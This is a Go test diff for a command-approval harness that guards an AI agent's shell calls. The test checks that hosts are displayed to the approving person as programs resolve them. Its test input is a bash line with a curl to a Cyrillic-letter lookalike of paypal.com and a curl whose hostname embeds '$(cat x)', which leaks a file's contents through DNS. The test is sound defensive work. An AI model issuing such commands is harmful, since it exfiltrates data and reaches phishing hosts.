@@ -1,12 +1,14 @@
 package harness
 
 import (
+	"context"
 	"encoding/json"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 
+	"rein/event"
 	"rein/guard"
 	"rein/kit/workspace"
 	"rein/tool"
@@ -49,5 +51,21 @@ func TestQuestionsShowTheRealDiff(t *testing.T) {
 	long := `{"path":"n","content":"` + strings.Repeat(`x\n`, 900) + `"}`
 	if got := ask("write_file", long); strings.Count(got, "\n    | x") != 900 || !strings.Contains(got, "create n (+900 -0 lines)") {
 		t.Errorf("what is cut is shown by its arguments, too: %.200s", got)
+	}
+}
+
+// A host whose letters look like those of another is shown as programs ask for it.
+func TestAHostInLookAlikeLetters(t *testing.T) {
+	var got []string
+	person := funcPerson(func(_ context.Context, r *Request) (guard.Answer, error) {
+		for _, c := range r.Shown.Contacts {
+			got = append(got, c.String())
+		}
+		return r.Claim(guard.Answer{By: guard.ByPerson("")})
+	})
+	s := startCalls(t, Options{Dir: t.TempDir(), Terms: event.Terms{Sandbox: "off"}, Person: person})
+	callText(t, s, "1", "bash", `{"command":"curl https://p\u0430ypal.com/x; curl https://Example.com; curl https://\"$(cat x)\".example.com"}`)
+	if want := "xn--pypal-4ve.com:443/x example.com:443 ….example.com:443"; strings.Join(got, " ") != want {
+		t.Errorf("got %q, want %s", got, want)
 	}
 }
